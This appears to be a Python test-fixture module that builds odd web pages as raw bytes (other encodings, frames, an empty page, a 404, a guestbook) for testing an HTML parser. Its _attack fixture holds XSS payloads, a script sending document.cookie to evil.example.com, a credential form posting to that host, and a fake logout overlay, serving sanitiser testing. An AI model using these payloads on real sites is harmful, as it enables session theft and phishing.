"""Pages that no blog engine makes: other encodings and scripts, frames, hardly anything, an attack."""

# ruff: noqa: E501 (the lines of the pages)

from __future__ import annotations

from dataclasses import dataclass


@dataclass(frozen=True, slots=True)
class OddPage:
    """A page as bytes, with the Content-Type that its server sent."""

    slug: str
    url: str
    date: str
    content_type: str
    raw: bytes


def odd_pages() -> list[OddPage]:
    """Return all pages that no blog engine made."""
    return [
        _utf16(),
        _shift_jis(),
        _hebrew(),
        _frames(),
        _empty(),
        _not_found(),
        _attack(),
        _hides_itself(),
        _ads(),
        _guestbook(),
    ]


def _utf16() -> OddPage:
    html = """<html><head><title>Zwei Räder: Das Schloss</title></head><body>
<h1>Zwei Räder</h1><h2>Das Schloss, das keines war</h2>
<p>Ein Freund aus Port Ellery schreibt mir, dass sein Fahrradschloss der Marke Castellan sich mit einem Kugelschreiber
öffnen lässt. Ich habe gelacht, bis ich es an meinem eigenen versucht habe. Der Kugelschreiber war ein Werbegeschenk
der Sparkasse.</p>
<p>In English, for those who ask: yes, mine opened too, on the second try, with a pen from the bank. Fahrradversicherungsgesellschaften
freuen sich vermutlich nicht.</p>
<p>Kommentare (1): <b>Ines</b>: Danke! A straw works as well.</p></body></html>"""
    return OddPage(
        "odd-utf16", "http://zweiraeder.example.de/schloss.html", "2006-01-14", "text/html", html.encode("utf-16")
    )


def _shift_jis() -> OddPage:
    html = """<html><head><meta http-equiv="Content-Type" content="text/html; charset=Shift_JIS">
<title>写真日記</title></head><body bgcolor="#ffffff"><h1>写真日記</h1>
<h3>2006年1月16日　新しいカメラ</h3>
<p>ルマレックス S5 (Lumarex S5) を買いました。色がとてもきれいです。でも、寒いところでは電池がすぐなくなります。</p>
<p>友だちに「三脚も買ったほうがいい」と言われました。小さい三脚を探しています。</p>
<p>Fumiko: The mini tripod is a good idea! 三脚、いいですね。</p></body></html>"""
    raw = html.encode("shift_jis")
    return OddPage(
        "odd-shift-jis", "http://shashin.example.jp/0116.html", "2006-01-16", "text/html; charset=Shift_JIS", raw
    )


def _hebrew() -> OddPage:
    html = """<!DOCTYPE HTML PUBLIC "-//W3C//DTD HTML 4.01//EN" "http://www.w3.org/TR/html4/strict.dtd">
<html dir="rtl" lang="he"><head><title>יומן קריאה</title>
<style type="text/css">body { font-family: Arial; width: 40em; margin: auto } blockquote { border-right: 3px solid #ccc; padding-right: 1em }</style></head>
<body><h1>יומן קריאה</h1><h2>פרדס המלח</h2>
<p>סיימתי את <span dir="ltr">The Salt Orchard</span> של מארן הולוורת'. הדודה <b>Isolde</b> היא הדמות האהובה עליי, והמאה העמודים
הראשונים איטיים מאוד.</p><blockquote dir="ltr">"It is a slow book, and then it is not." (my sister, in English)</blockquote>
<p>תגובות: <b>דנה</b>: גם אני אהבתי! (3 כוכבים מתוך 5)</p></body></html>"""
    return OddPage(
        "odd-hebrew", "http://yoman.example.co.il/salt.html", "2006-01-29", "text/html; charset=utf-8", html.encode()
    )


def _frames() -> OddPage:
    html = """<html><head><title>Dunmore Falls Home Page</title></head>
<frameset cols="160,*"><frame src="menu.html" name="menu"><frame src="http://dunmorefalls.example.org/news.html" name="main">
<noframes><body><p>Welcome to Dunmore Falls! Your browser does not do frames. The new Pennywhistle Market is next to the fire station.</p></body></noframes>
</frameset></html>"""
    return OddPage("odd-frames", "http://dunmorefalls.example.org/", "2005-12-10", "text/html", html.encode())


def _empty() -> OddPage:
    return OddPage(
        "odd-empty", "http://hiatus.example.com/", "2006-01-02", "text/html", b"<html><body>back soon\n</body></html>"
    )


def _not_found() -> OddPage:
    html = b"""<HTML><HEAD><TITLE>404 Not Found</TITLE></HEAD><BODY><H1>Not Found</H1>
The requested URL /2006/01/night-ferry.html was not found on this server.<HR><I>Apache/1.3.33</I></BODY></HTML>
"""
    return OddPage("odd-404", "http://boatfan.example.net/2006/01/night-ferry.html", "2006-01-30", "text/html", html)


def _attack() -> OddPage:
    html = """<html><head><title>Bluebell and Rook fans</title>
<base href="http://evil.example.com/"><meta http-equiv="refresh" content="1;url=http://evil.example.com/gone">
<style>@import url(http://evil.example.com/x.css); p { behavior: url(x.htc); background: url("javascript:alert(1)") }</style>
<script>document.location = "http://evil.example.com/?" + document.cookie</script></head>
<body onload="alert('loaded')" onfocus="alert(2)">
<h1>Bluebell &amp; Rook fans</h1>
<p>I like the maple macchiato at Bluebell &amp; Rook, <a href="javascript:alert(3)">click here for a coupon</a>.</p>
<img src=x onerror="alert(4)"><svg><script>alert(5)</script></svg><iframe src="http://evil.example.com/frame"></iframe>
<form action="http://evil.example.com/login"><input name=password type=password><button formaction="javascript:alert(6)">Sign in to judge</button></form>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(7)&gt;">
<p style="position:fixed;top:0;left:0;width:100%;height:100%;z-index:9999;background:white">You have been logged out.</p>
</body></html>"""
    return OddPage(
        "odd-attack",
        "http://rookfans.example.biz/coupon.html",
        "2006-02-11",
        "text/html; charset=iso-8859-1",
        html.encode(),
    )


def _hides_itself() -> OddPage:
    html = """<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0 Transitional//EN" "http://www.w3.org/TR/xhtml1/DTD/xhtml1-transitional.dtd">
<html><head><title>my very slow homepage</title><style type="text/css">#all { visibility: hidden }</style>
<script type="text/javascript">window.onload = function () { document.getElementById("all").style.visibility = "visible"; }</script></head>
<body><div id="all"><h1>hello</h1><p>The bus was late again and I have nothing else to say about the Ellery Crosstown.</p></div></body></html>"""
    return OddPage(
        "odd-hides-itself", "http://slowpage.example.com/", "2006-01-19", "text/html; charset=us-ascii", html.encode()
    )


def _ads() -> OddPage:
    rows = "".join(
        f"<tr><td><a href=/{n}>{what}</a><td>{price}"
        for n, (what, price) in enumerate(
            [("Couch, some cat", "$40"), ("Lumarex S5, boxed, as new", "$310"), ("Hollow Armada, disc scratched", "$9"),
             ("Bicycle lock, yellow, opens easily", "free"), ("Four snow tires", "$80"), ("Cat, some couch", "ask")]
        )
    )  # fmt: skip
    html = f"<html><head><title>Ellery Classifieds</title></head><body><h2>For sale, this week</h2><table border=1>{rows}</table></body></html>"
    return OddPage(
        "odd-classifieds", "http://classifieds.example.org/list.html", "2006-02-16", "text/html", html.encode()
    )


def _guestbook() -> OddPage:
    signed = [
        ("Cousin Lou", "Nice site Abe. Your ferry looks smaller than I remember."),
        ("BestPills", "Great site! visit my homepage for cheap ringtones and loans"),
        ("Bosun", "The crew of the Lower Deck salutes you."),
        ("a friend from Saltmarsh", "Is the pie shop still open on Sundays?"),
        ("Abe", "It is."),
    ]
    items = "<HR>".join(f"<B>{name}</B> wrote:<BR>{text}" for name, text in signed)
    html = f"<HTML><TITLE>Guest book</TITLE><BODY BGCOLOR=#99CCCC><H1>Sign my guest book!</H1>{items}<HR><I>Harbor Log"
    return OddPage("odd-guestbook", "http://harborlog.example.net/guest.html", "2006-02-18", "text/html", html.encode())
